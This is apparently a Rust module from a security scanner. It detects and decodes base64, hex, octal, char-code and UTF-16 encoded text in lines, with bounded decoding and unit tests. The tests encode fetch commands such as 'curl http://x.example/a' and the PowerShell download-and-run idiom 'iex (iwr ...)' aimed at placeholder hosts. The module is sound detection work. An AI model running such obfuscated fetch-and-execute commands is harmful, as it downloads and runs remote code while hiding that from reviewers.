//! Encoded text within a line: base64, hexadecimal, escapes, character codes. Only those that decode to readable text count.

use base64::Engine as _;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use regex::Regex;

/// Maximum bytes decoded of one file, over all of its encoded texts.
const MAX_DECODED: usize = 1 << 20;
/// Maximum encoded texts looked at in one line.
const MAX_IN_LINE: usize = 200;
/// Minimum characters of a decoded text.
const MIN_TEXT: usize = 10;

/// An encoded text within a line.
pub(super) struct Blob {
    /// Byte offset in the line.
    pub at: usize,
    /// The text that it decodes to.
    pub decoded: String,
}

/// How a text is encoded.
#[derive(Clone, Copy)]
enum Encoding {
    Base64,
    Hex,
    Codes(u32),
}

/// A row per encoding. Digits are searched before base64, whose alphabet contains them.
const ENCODINGS: [(Encoding, &str); 5] = [
    (Encoding::Hex, r"(?i)(?:\\x|%)[0-9a-f]{2}(?:(?:\\x|%)[0-9a-f]{2}){7,}"),
    (Encoding::Hex, r"(?i)\b(?:[0-9a-f]{2}){12,}\b"),
    (Encoding::Codes(8), r"\\0?[0-7]{2,3}(?:\\0?[0-7]{2,3}){7,}"),
    (Encoding::Codes(10), r"\b\d{2,3}(?:\s?,\s?\d{2,3}){9,}\b"),
    (Encoding::Base64, r"[A-Za-z0-9+/_-]{16,}={0,2}"),
];

/// Between adjacent string literals, as in `"aGVs" + "bG8="`.
const BETWEEN: &str = r#"(?:"\s*[+.]?\s*"|'\s*[+.]?\s*')"#;

const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_allow_trailing_bits(true)
    .with_decode_padding_mode(DecodePaddingMode::Indifferent);
const STANDARD: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT);
const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, LENIENT);

/// The bytes that may still be decoded of one file.
pub(super) struct Budget {
    left: usize,
    exceeded: bool,
}

impl Budget {
    pub(super) fn new() -> Self {
        Self { left: MAX_DECODED, exceeded: false }
    }

    /// Whether an encoded text was not looked at.
    pub(super) fn is_exceeded(&self) -> bool {
        self.exceeded
    }

    fn takes(&mut self, bytes: usize) -> bool {
        let left = self.left.checked_sub(bytes);
        self.exceeded |= left.is_none();
        self.left = left.unwrap_or(self.left);
        left.is_some()
    }
}

/// The patterns of encoded texts.
pub(super) struct Encodings {
    finders: Vec<(Encoding, Regex)>,
    between: Regex,
}

impl Encodings {
    /// Compiles all of them or none.
    pub(super) fn compiled() -> Result<Self, regex::Error> {
        let finders = ENCODINGS.iter().map(|(encoding, pattern)| Ok((*encoding, Regex::new(pattern)?)));
        Ok(Self { finders: finders.collect::<Result<_, regex::Error>>()?, between: Regex::new(BETWEEN)? })
    }

    /// The encoded texts of a line.
    pub(super) fn find(&self, line: &str, budget: &mut Budget) -> Vec<Blob> {
        let joined = self.between.replace_all(line, "");
        let mut found = Vec::new();
        for (encoding, finder) in &self.finders {
            for (count, part) in finder.find_iter(&joined).enumerate() {
                if count >= MAX_IN_LINE {
                    budget.exceeded = true;
                    break;
                }
                if !budget.takes(part.len()) {
                    return found;
                }
                if let Some(decoded) = decode(*encoding, part.as_str()).as_deref().and_then(readable) {
                    found.push(Blob { at: part.start().min(line.len()), decoded });
                }
            }
        }
        found
    }
}

fn decode(encoding: Encoding, part: &str) -> Option<Vec<u8>> {
    match encoding {
        Encoding::Base64 => {
            let bare = part.trim_end_matches('=');
            // One character more than whole bytes need is not part of the text.
            let whole = if bare.len() % 4 == 1 { bare.get(..bare.len() - 1)? } else { bare };
            STANDARD.decode(whole).or_else(|_| URL_SAFE.decode(whole)).ok()
        }
        Encoding::Hex => {
            let digits: Vec<u32> =
                part.replace("\\x", "").replace("\\X", "").chars().filter_map(|c| c.to_digit(16)).collect();
            digits.as_chunks::<2>().0.iter().map(|[high, low]| u8::try_from(high * 16 + low).ok()).collect()
        }
        Encoding::Codes(radix) => {
            let codes = part.split(['\\', ',']).map(str::trim).filter(|code| !code.is_empty());
            codes.map(|code| u8::from_str_radix(code, radix).ok()).collect()
        }
    }
}

/// The bytes as text, if a person could read them: UTF-8 or UTF-16, nearly all of it letters, signs and spaces.
fn readable(bytes: &[u8]) -> Option<String> {
    let wide = bytes.len() >= 2 * MIN_TEXT && bytes.iter().skip(1).step_by(2).all(|byte| *byte == 0);
    let text = if wide {
        bytes.iter().step_by(2).map(|byte| char::from(*byte)).collect()
    } else {
        String::from_utf8(bytes.to_vec()).ok()?
    };
    let (mut length, mut odd) = (0_usize, 0_usize);
    for character in text.chars() {
        length += 1;
        let plain = character.is_ascii_graphic() || matches!(character, ' ' | '\n' | '\t' | '\r');
        odd += usize::from(!plain);
    }
    (length >= MIN_TEXT && odd * 20 <= length).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(line: &str, expected: &[&str]) {
        let found = Encodings::compiled().unwrap().find(line, &mut Budget::new());
        let found: Vec<&str> = found.iter().map(|blob| blob.decoded.as_str()).collect();
        assert_eq!(found, expected, "{line}");
    }

    #[test]
    fn readable_text_is_decoded() {
        let text = "curl http://x.example/a";
        check("x Y3VybCBodHRwOi8veC5leGFtcGxlL2E= y", &[text]);
        check("'Y3VybCBodHRw' + 'Oi8veC5leGFtcGxlL2E'", &[text]);
        check("6375726c20687474703a2f2f782e6578616d706c652f61", &[text]);
        check(r"$'\x63\x75\x72\x6c\x20\x78\x2e\x65\x78\x61\x6d\x70\x6c\x65'", &["curl x.example"]);
        check(r"\143\165\162\154\040\170\056\145\170\141\155\160\154\145", &["curl x.example"]);
        check("fromCharCode(99,117,114,108,32,120,46,101,120,97,109)", &["curl x.exam"]);
        check("aQBlAHgAIAAoAGkAdwByACAAeAAuAGUAeAApAA==", &["iex (iwr x.ex)"]);
    }

    #[test]
    fn anything_else_is_not_text() {
        check("sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=", &[]);
        check("9c53c074d7ac6a2728b638ac1f376c5fa9eb8f71603017c3ea638c2fd40548df", &[]);
        check("aVeryLongIdentifierThatStandsInSomeProgram", &[]);
        check("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ", &[]);
    }

    #[test]
    fn decoding_is_bounded_and_says_so() {
        let encodings = Encodings::compiled().unwrap();
        let one = "Y3VybCBodHRwOi8veC5leGFtcGxlL2E= ";
        let mut budget = Budget { left: 40, exceeded: false };
        assert_eq!(encodings.find(one, &mut budget).len(), 1);
        assert!(!budget.is_exceeded());
        assert_eq!(encodings.find(one, &mut budget).len(), 0);
        assert!(budget.is_exceeded());
        let mut budget = Budget::new();
        assert_eq!(encodings.find(&one.repeat(MAX_IN_LINE + 1), &mut budget).len(), MAX_IN_LINE);
        assert!(budget.is_exceeded());
    }
}
